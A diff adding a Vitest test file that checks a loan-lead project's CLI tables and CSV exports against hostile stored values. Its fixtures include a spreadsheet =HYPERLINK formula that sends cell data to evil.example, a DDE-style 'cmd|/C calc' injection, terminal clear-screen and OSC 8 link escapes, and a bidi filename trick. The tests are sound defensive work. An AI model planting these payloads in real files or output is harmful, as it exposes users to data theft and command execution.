@@ -1,0 +1,149 @@
+/**
+ * What operators' commands print is data, never instructions: table cells have their control
+ * characters escaped (no clear-screen, no OSC 8 links, no bidi tricks reach the terminal), and
+ * CSV cells that a spreadsheet would run as a formula start with an apostrophe. Table tests of
+ * the shared functions, then `npm run leads` and `npm run traces` for real over hostile stored values.
+ */
+import { spawnSync } from 'node:child_process';
+import { mkdtempSync, rmSync } from 'node:fs';
+import { tmpdir } from 'node:os';
+import { join } from 'node:path';
+import { afterAll, beforeAll, describe, expect, it } from 'vitest';
+import { sealText } from '../../engine/leads/sealing';
+import { migrateStore, openStore } from '../../engine/store/db';
+import { insertLead } from '../../engine/store/leads';
+import { recordSessionTrace } from '../../engine/store/sessionTraces';
+import { csv, spreadsheetSafe, terminalSafe, textTable } from '../../scripts/cliFormat';
+
+const ESC = '\u001b';
+const CLEAR = `${ESC}[2J${ESC}[H`;
+const LINK = `${ESC}]8;;http://evil.example/${ESC}\\click me${ESC}]8;;${ESC}\\`;
+
+describe('spreadsheetSafe', () => {
+  it.each([
+    ['=HYPERLINK("http://evil.example/?"&A2,"x")', `'=HYPERLINK("http://evil.example/?"&A2,"x")`],
+    ['+1+cmd|/C calc!A0', `'+1+cmd|/C calc!A0`],
+    ['-2+3', `'-2+3`],
+    ['@SUM(A1:A2)', `'@SUM(A1:A2)`],
+    ['\t=1', `'\t=1`],
+    ['\r=1', `'\r=1`],
+    ['Ana', 'Ana'],
+    ['a=b', 'a=b'],
+    ['', ''],
+    ['2500', '2500'],
+  ])('%j → %j', (value, safe) => expect(spreadsheetSafe(value)).toBe(safe));
+
+  it('csv() applies it to every cell and still quotes per RFC 4180', () => {
+    const out = csv(
+      [{ name: '=1+2', note: '-x,"y"' }],
+      [
+        ['name', (r) => r.name],
+        ['note', (r) => r.note],
+      ],
+    );
+    expect(out).toBe(`name,note\r\n'=1+2,"'-x,""y"""\r\n`);
+  });
+});
+
+describe('terminalSafe', () => {
+  it.each([
+    [CLEAR, '\\x1b[2J\\x1b[H'],
+    ['bell\u0007', 'bell\\x07'],
+    ['del\u007f', 'del\\x7f'],
+    ['csi\u009b2J', 'csi\\x9b2J'],
+    ['abc\u202etxt.exe', 'abc\\u202etxt.exe'],
+    ['García 5 000', 'García 5 000'],
+  ])('%j → %j', (value, safe) => expect(terminalSafe(value)).toBe(safe));
+
+  it('a table of hostile values holds no control character', () => {
+    const table = textTable([{ v: LINK }, { v: CLEAR }], [['value', (r) => r.v, 80]]);
+    // eslint-disable-next-line no-control-regex -- looking for control characters is the point
+    expect(table).not.toMatch(/[\u0000-\u0009\u000b-\u001f\u007f-\u009f]/);
+    expect(table).toContain('\\x1b]8;;http://evil.example/');
+  });
+});
+
+describe('npm run leads and npm run traces over hostile stored values', () => {
+  const dir = mkdtempSync(join(tmpdir(), 'loansites-cli-safety-'));
+  const file = join(dir, 'cli.sqlite');
+  const env = { ...process.env, LOANSITES_DB_FILE: file, DATABASE_URL: '', LEADS_ENCRYPTION_KEY: 'f'.repeat(64) };
+  const run = (script: string, args: string[]) => spawnSync(process.execPath, ['--import', 'tsx', script, ...args], { encoding: 'utf8', timeout: 60_000, env });
+  beforeAll(async () => {
+    const db = openStore({ url: '', file });
+    await migrateStore(db);
+    const now = new Date().toISOString();
+    await insertLead(
+      db,
+      {
+        brand: 'ipaydayloans',
+        idempotency_key: 'hostile-cli-key-000001',
+        created_at: now,
+        loan_kind: 'general',
+        amount: 1000,
+        zip: '78701',
+        state: 'tx',
+        city: `Austin${CLEAR}`,
+        country: 'US',
+        region: 'TX',
+        currency: 'USD',
+        purpose: '',
+        vehicle: '',
+        first_name: '=HYPERLINK("http://evil.example/?"&A2,"x")',
+        last_name: LINK,
+        email: 'x@example.org',
+        phone: '5125550123',
+        income_source: 'employment',
+        pay_frequency: 'weekly',
+        sealed: sealText('{"dateOfBirth":"1990-01-01","monthlyIncome":1}', Buffer.from('f'.repeat(64), 'hex')),
+        consent_version: 'tcpa-2026-11',
+        consent_text: 't',
+        consent_hash: 'h',
+        source: '@SUM(1+1)',
+        source2: '-2+3',
+        click_id: `gg${ESC}[31mred`,
+        session_uuid: '',
+        privacy_opt_out: 0,
+        ip: '',
+        user_agent: '',
+        host: 'ipaydayloans.com',
+        environment: 'production',
+      },
+      [],
+    );
+    await recordSessionTrace(db, {
+      uuid: 'cc' + '3'.repeat(32),
+      brand: 'ipaydayloans',
+      source1: CLEAR,
+      source2: LINK,
+      clickId: `\u009b2J`,
+      gaClientId: '1.2',
+      userAgent: 'ua',
+      ip: '203.0.113.0',
+      createdAt: now,
+    });
+    await db.destroy();
+  });
+  afterAll(() => rmSync(dir, { recursive: true, force: true }));
+
+  it('the tables print the values escaped, with no control character', () => {
+    for (const [script, args] of [
+      ['scripts/leads.ts', ['--since', '1h']],
+      ['scripts/traces.ts', ['--since', '1h']],
+    ] as const) {
+      const out = run(script, [...args]);
+      expect(out.status).toBe(0);
+      // eslint-disable-next-line no-control-regex -- looking for control characters is the point
+      expect(out.stdout).not.toMatch(/[\u0000-\u0009\u000b-\u001f\u007f-\u009f]/);
+      expect(out.stdout).toContain('\\x1b[2J');
+    }
+  }, 120_000);
+
+  it('the CSV export neutralises formulas', () => {
+    const out = run('scripts/leads.ts', ['--since', '1h', '--csv']);
+    expect(out.status).toBe(0);
+    const row = out.stdout.split('\r\n')[1]!;
+    expect(row).toContain(`"'=HYPERLINK(""http://evil.example/?""&A2,""x"")"`);
+    expect(row).toContain(`,'@SUM(1+1),'-2+3,`);
+    expect(row).not.toMatch(/(^|,)[=+\-@]/);
+  }, 60_000);
+});
